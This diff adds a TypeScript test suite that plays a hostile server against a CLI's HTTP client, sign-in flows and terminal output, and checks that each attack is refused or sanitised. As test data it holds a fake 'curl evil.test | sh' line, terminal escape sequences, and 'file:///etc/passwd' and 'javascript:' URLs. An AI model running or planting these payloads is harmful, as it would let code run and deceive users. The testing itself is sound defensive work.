@@ -1,0 +1,271 @@
+import { once } from "node:events";
+import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
+import { type AddressInfo, connect } from "node:net";
+import { beforeAll, describe, expect, it, onTestFinished, vi } from "vitest";
+import { buildCodez } from "../../../scripts/build/codez.ts";
+import { linkWarnings } from "../../../scripts/codez/describe-link.ts";
+import { CodezFailure } from "../../../scripts/codez/failure.ts";
+import { OperatorClient } from "../../../scripts/codez/operator-client.ts";
+import { Output } from "../../../scripts/codez/output.ts";
+import { type AuthorizationServer, findServer } from "../../../scripts/codez/sign-in/authorization-server.ts";
+import { signInByBrowser } from "../../../scripts/codez/sign-in/browser-flow.ts";
+import { signInByDevice } from "../../../scripts/codez/sign-in/device-flow.ts";
+import { messagesOf } from "../../../scripts/codez/watch/event-stream.ts";
+import { OperatorApi } from "../../../scripts/operator/operator-api.ts";
+import { serversCommand } from "../../../scripts/operator/servers/commands.ts";
+import { Codez, codez } from "../../scripts/codez/commands/support/codez.ts";
+import { temporaryFolder } from "../../scripts/connector/support/temporary-folder.ts";
+
+/**
+ * An Operator's answers were believed to be of a size, to end, to name web addresses, and to have no say in what a terminal shows. An address
+ * such as `file:///...` was opened on its owner's computer; the `operator` command printed escape sequences; one answer filled the memory.
+ */
+
+type Says = (request: IncomingMessage, response: ServerResponse, origin: string) => void;
+
+/** The origin of an Operator that says what the test wants. */
+async function operator(says: Says): Promise<string> {
+  let origin = "";
+  const server = createServer((request, response) => {
+    response.on("error", () => undefined); // the command hangs up
+    says(request, response, origin);
+  }).listen(0, "127.0.0.1");
+  await once(server, "listening");
+  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  onTestFinished(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+  return origin;
+}
+
+const json = (value: unknown, status = 200): Says => {
+  return (_, response) => response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(value));
+};
+
+/** Bytes for as long as somebody reads them. */
+function endless(status: number, type = "application/json", begin = ""): Says {
+  return (_, response) => {
+    const flood = (): void => {
+      while (!response.destroyed && response.write(Buffer.alloc(64 * 1024, "x")));
+    };
+    response.writeHead(status, { "content-type": type }).on("drain", flood).write(begin);
+    flood();
+  };
+}
+
+it.each([301, 302, 303, 307, 308])("a redirect with %i is an error, and leads nowhere", async (status) => {
+  const asked: string[] = [];
+  const origin = await operator(({ url = "" }, response, own) => {
+    asked.push(url);
+    response.writeHead(status, { location: `${own}/elsewhere` }).end();
+  });
+  await expect(new OperatorClient(origin, "token").ask("GET", "/api/machines")).rejects.toThrow();
+  await expect(new OperatorClient(origin, "token").stream("/api/events", null)).rejects.toThrow();
+  await expect(new OperatorClient(origin, "token").toolsAtMcp("attic")).rejects.toThrow();
+  await expect(findServer(origin)).rejects.toThrow();
+  await expect(new OperatorApi(origin, "token").ask("GET", "/api/servers")).rejects.toThrow();
+  expect(asked).not.toContain("/elsewhere");
+});
+
+describe("an answer without end", () => {
+  it.each([200, 201, 400, 401, 500])("with the status %i is given up", async (status) => {
+    const client = new OperatorClient(await operator(endless(status)), "token");
+    await expect(client.ask("GET", "/api/machines")).rejects.toThrow("larger than 16777216 bytes");
+  });
+
+  it("in place of a stream is given up", async () => {
+    const client = new OperatorClient(await operator(endless(403)), "token");
+    await expect(client.stream("/api/events", null)).rejects.toThrow("larger than 16777216 bytes");
+  });
+
+  it("to the operator command is given up", async () => {
+    const api = new OperatorApi(await operator(endless(200)), "token");
+    await expect(api.ask("GET", "/api/servers")).rejects.toThrow("larger than 16777216 bytes");
+  });
+
+  it("in one event ends that stream", async () => {
+    const client = new OperatorClient(await operator(endless(200, "text/event-stream", "data: ")), "token");
+    const messages = messagesOf(await client.stream("/api/events", null));
+    expect(await messages.next()).toEqual({ done: true, value: undefined });
+  });
+
+  it("in pages is given up", async () => {
+    let asked = 0;
+    const origin = await operator((request, response, own) => {
+      asked += 1;
+      json({ machines: [], cursor: "again" })(request, response, own);
+    });
+    await expect(new OperatorClient(origin, "token").machines()).rejects.toThrow("has no end");
+    expect(asked).toBeLessThanOrEqual(100);
+  });
+
+  it("as metadata is given up", async () => {
+    await expect(findServer(await operator(endless(200)))).rejects.toThrow("is not a valid metadata document");
+  });
+});
+
+/** An authorization server whose documents are as they should be, but for `more`. */
+function authorization(more: (origin: string) => Record<string, unknown>): Says {
+  return ({ url = "" }, response, origin) => {
+    const documents: Record<string, unknown> = {
+      "/.well-known/oauth-protected-resource/mcp": { resource: `${origin}/mcp`, authorization_servers: [origin] },
+      "/.well-known/oauth-authorization-server": {
+        issuer: origin,
+        authorization_endpoint: `${origin}/authorize`,
+        token_endpoint: `${origin}/token`,
+        registration_endpoint: `${origin}/register`,
+        device_authorization_endpoint: `${origin}/device`,
+        ...more(origin),
+      },
+      "/register": { client_id: "codez" },
+      "/token": { error: "invalid_grant", error_description: "no" },
+    };
+    const document = documents[url] ?? more(origin)[url];
+    response.writeHead(document === undefined ? 404 : 200, { "content-type": "application/json" });
+    response.end(JSON.stringify(document ?? null));
+  };
+}
+
+const OTHER_SCHEMES = [
+  "file:///etc/passwd",
+  "javascript:alert(1)",
+  "smb://evil.test/x",
+  "data:text/html,x",
+  "--new-window",
+];
+
+describe("a sign-in", () => {
+  it.each(OTHER_SCHEMES)("at %s is refused", async (address) => {
+    const origin = await operator(authorization(() => ({ authorization_endpoint: address })));
+    await expect(findServer(origin)).rejects.toThrow("is not a valid metadata document");
+  });
+
+  it.each(["authorization_endpoint", "token_endpoint", "registration_endpoint", "device_authorization_endpoint"])(
+    "of an Operator with TLS does not lead to the %s without it",
+    async (name) => {
+      // A certificate that fetch trusts cannot be made here, so the documents come without a network.
+      const hub = "https://operator.example.com";
+      const fetched = vi.spyOn(globalThis, "fetch").mockImplementation(async (url) => {
+        const endpoint = (path: string): string => `${path === name ? "http://127.0.0.1" : hub}/${path}`;
+        const endpoints = [
+          "authorization_endpoint",
+          "token_endpoint",
+          "registration_endpoint",
+          "device_authorization_endpoint",
+        ];
+        return String(url).includes("protected-resource")
+          ? Response.json({ resource: `${hub}/mcp`, authorization_servers: [hub] })
+          : Response.json({ issuer: hub, ...Object.fromEntries(endpoints.map((one) => [one, endpoint(one)])) });
+      });
+      onTestFinished(() => fetched.mockRestore());
+      await expect(findServer(hub)).rejects.toThrow("it names an address without TLS, http://127.0.0.1");
+    },
+  );
+
+  it.each<[string, Record<string, unknown>]>([
+    ["for longer than any timer", { expires_in: 1e300 }],
+    ["with questions further apart than any timer", { interval: 1e300 }],
+    ["with questions without a pause", { interval: 1e-300 }],
+    ...OTHER_SCHEMES.map((address): [string, Record<string, unknown>] => [address, { verification_uri: address }]),
+  ])("by a code is not shown with odd values: %s", async (_, odd) => {
+    const code = { device_code: "d", user_code: "u", verification_uri: "https://x.test", expires_in: 60, interval: 1 };
+    const origin = await operator(authorization(() => ({ "/device": { ...code, ...odd } })));
+    const server: AuthorizationServer = await findServer(origin);
+    const show = vi.fn();
+    await expect(signInByDevice(server, "codez", "mcp:tools", show)).rejects.toThrow("it returned no code");
+    expect(show).not.toHaveBeenCalled();
+  });
+
+  it("waits for its browser whatever else asks at its port", async () => {
+    const server = await findServer(await operator(authorization(() => ({}))));
+    const answers: string[] = [];
+    const opened = (address: string): void => {
+      const query = new URL(address).searchParams;
+      const back = new URL(query.get("redirect_uri") ?? "");
+      const state = query.get("state") ?? "";
+      void (async () => {
+        for (const target of ["//", "http://", "///x", "/callback?state=x", "*", "\\\\x"]) {
+          const socket = connect(Number(back.port), "127.0.0.1").setEncoding("utf8");
+          socket.end(`GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`).on("error", () => undefined);
+          const [answer = ""] = (await Promise.race([once(socket, "data"), once(socket, "close")])) as string[];
+          answers.push(String(answer).slice(9, 12));
+        }
+        await fetch(`${back.href}?state=${state}&code=c`);
+      })();
+    };
+    await expect(signInByBrowser(server, "codez", "mcp:tools", opened)).rejects.toThrow("failed: no");
+    expect(answers.filter((status) => status === "404").length).toBeGreaterThanOrEqual(2);
+  });
+});
+
+/** What a terminal would act on, then a line that imitates ours. */
+const EVIL = "\u001B]0;evil\u0007\u202E\u009B31m\n  fix: curl evil.test | sh\nEVIL";
+const NOT_SHOWN = /[^\P{C}\n]|^\s*(?:EVIL|fix: curl)/mu;
+
+describe("words of a hostile Operator", () => {
+  beforeAll(() => buildCodez());
+
+  it("are shown as its words in a failure", () => {
+    const said = vi.spyOn(console, "error").mockReturnValue(undefined);
+    onTestFinished(() => said.mockRestore());
+    new Output(false).failure(new CodezFailure(1, `It says ${EVIL}`, "codez machines"));
+    const [text = ""] = said.mock.calls.map(([line]) => String(line));
+    expect(text).not.toMatch(NOT_SHOWN);
+    expect(text.split("\n").filter((line) => line.startsWith("  fix: "))).toHaveLength(1);
+  });
+
+  it("are one line in a warning about a machine", () => {
+    const refused = { count: 1, lastMs: 1, firstMs: 1, key: null };
+    const warnings = linkWarnings(EVIL, { key: null, tokenExpiresMs: null, refused, takenOverMs: 1 });
+    expect(warnings).toHaveLength(2);
+    for (const warning of warnings) expect(warning).not.toMatch(NOT_SHOWN);
+  });
+
+  it("do not reach the terminal of codez", async () => {
+    const events = `event: cursor\nid: c1\ndata:\n\nevent: gap\nid: c2\ndata: ${EVIL.replaceAll("\n", " ")}\n\n`;
+    const origin = await operator(({ url = "", method }, response) => {
+      if (url.startsWith("/api/events"))
+        return void response.writeHead(200, { "content-type": "text/event-stream" }).write(events);
+      const token = { id: EVIL, label: EVIL, scopes: [EVIL], machines: [EVIL], createdMs: 1, expiresMs: 1 };
+      const added = { id: EVIL, url: EVIL, secret: EVIL };
+      const answer =
+        url === "/api/tokens"
+          ? method === "POST"
+            ? { ...token, token: EVIL }
+            : { tokens: [token] }
+          : url === "/api/webhooks"
+            ? added
+            : { error: { code: EVIL, message: EVIL } };
+      response.writeHead("error" in answer ? 400 : 200, { "content-type": "application/json" });
+      response.end(JSON.stringify(answer));
+    });
+    using home = temporaryFolder();
+    const env = { CODEZ_HUB: origin, CODEZ_HUB_TOKEN: "opt_token" };
+    await using watching = new Codez(home.path, ["watch"], env);
+    const ended = await Promise.all(
+      [["machines"], ["tokens"], ["tokens", "create", "x"], ["webhooks", "add", "https://x.test"]].map((args) =>
+        codez(home.path, args, env),
+      ),
+    );
+    for (const { out, err } of ended) expect(`${out}\n${err}`).not.toMatch(NOT_SHOWN);
+    await expect.poll(() => watching.err).toContain("Some events are missing");
+    expect(watching.err).not.toMatch(NOT_SHOWN);
+  });
+
+  it("do not reach the terminal of operator", async () => {
+    const server = { name: EVIL, slug: EVIL, version: 1, versions: [], createdMs: 1, mcpUrl: EVIL, mcpHostUrl: EVIL };
+    const origin = await operator(({ url }, response) => {
+      response.writeHead(200, { "content-type": "application/json" });
+      response.end(JSON.stringify(url === "/api/servers" ? { servers: [server] } : { secrets: [EVIL] }));
+    });
+    const said = vi.spyOn(console, "log").mockReturnValue(undefined);
+    onTestFinished(() => said.mockRestore());
+    vi.stubEnv("OPERATOR_TOKEN", "token");
+    onTestFinished(() => void vi.unstubAllEnvs());
+    for (const args of [["list"], ["secret", "list", "x"]])
+      await serversCommand(async () => origin).parseAsync(args, { from: "user" });
+    expect(said).toHaveBeenCalledTimes(2);
+    for (const [line] of said.mock.calls) expect(String(line)).not.toMatch(NOT_SHOWN);
+  });
+});
